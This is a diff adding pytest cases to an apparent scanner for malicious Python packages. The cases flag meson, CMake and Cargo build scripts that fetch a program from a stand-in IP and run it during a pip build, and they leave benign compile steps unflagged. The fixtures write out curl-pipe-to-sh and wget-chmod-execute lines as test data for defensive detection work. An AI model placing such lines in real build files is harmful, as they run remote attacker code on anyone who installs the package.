@@ -340,3 +340,75 @@ def test_a_suffix_that_does_not_close_the_literal_names_no_script(literal: str) 
     commands = InstalledCommands()
     commands.note_code("pkg/a.py", f"import os\nos.system({literal})\n", installer=True)
     assert "pkg/a.py" not in commands._started
+
+# -- blind16: the build scripts a build backend runs while pip builds the sdist ---------------
+
+_PYPROJECT = '[build-system]\nrequires = ["meson-python"]\nbuild-backend = "mesonpy"\n'
+
+
+@pytest.mark.parametrize(
+    ("files", "script"),
+    [
+        (
+            {
+                "pyproject.toml": _PYPROJECT,
+                "meson.build": "project('p', 'c')\n"
+                "run_command('sh', '-c', 'curl -s https://198.51.100.7/i | sh', check : false)\n",
+            },
+            "meson.build",
+        ),
+        (
+            {
+                "CMakeLists.txt": "project(p C)\n"
+                "execute_process(COMMAND wget -q -O /tmp/.cm http://198.51.100.99/cm)\n"
+                "execute_process(COMMAND chmod +x /tmp/.cm)\n"
+                "execute_process(COMMAND /tmp/.cm)\n",
+            },
+            "CMakeLists.txt",
+        ),
+        (
+            {
+                "Cargo.toml": '[package]\nname = "p"\nbuild = "build.rs"\n',
+                "build.rs": "use std::process::Command;\nfn main() {\n    let _ = "
+                'Command::new("sh").arg("-c")'
+                '.arg("curl -s https://198.51.100.7/x | sh").status();\n}\n',
+            },
+            "build.rs",
+        ),
+    ],
+    ids=["meson", "cmake", "cargo-build-rs"],
+)
+@pytest.mark.parametrize("form", ["tree", "sdist"])
+def test_a_build_script_that_downloads_and_runs_a_program_is_danger(
+    tmp_path: Path, files: dict[str, str], script: str, form: str
+) -> None:
+    assert ("CPL-THR-015", script) in package_danger(_target(tmp_path, files, form))
+
+
+@pytest.mark.parametrize(
+    "files",
+    [
+        # what build scripts do: run the compiler or Python, fetch sources they build
+        {
+            "pyproject.toml": _PYPROJECT,
+            "meson.build": "project('p', 'c')\n"
+            "r = run_command(py, ['-c', 'import numpy; print(numpy.get_include())'])\n",
+        },
+        {
+            "CMakeLists.txt": "include(FetchContent)\n"
+            "FetchContent_Declare(fmt URL https://github.com/fmtlib/fmt/archive/10.0.0.tar.gz)\n"
+            "execute_process(COMMAND git describe --tags OUTPUT_VARIABLE V)\n"
+            "file(DOWNLOAD https://example.org/data.csv ${CMAKE_BINARY_DIR}/data.csv)\n",
+        },
+        {
+            "build.rs": 'fn main() {\n    std::process::Command::new("cc").arg("-c").arg("x.c")'
+            ".status().unwrap();\n}\n",
+        },
+    ],
+    ids=["meson-python-include", "cmake-fetchcontent", "build-rs-cc"],
+)
+@pytest.mark.parametrize("form", ["tree", "sdist"])
+def test_build_scripts_that_compile_or_fetch_sources_stay_clean(
+    tmp_path: Path, files: dict[str, str], form: str
+) -> None:
+    assert "CPL-THR-015" not in {r for r, _ in package_danger(_target(tmp_path, files, form))}
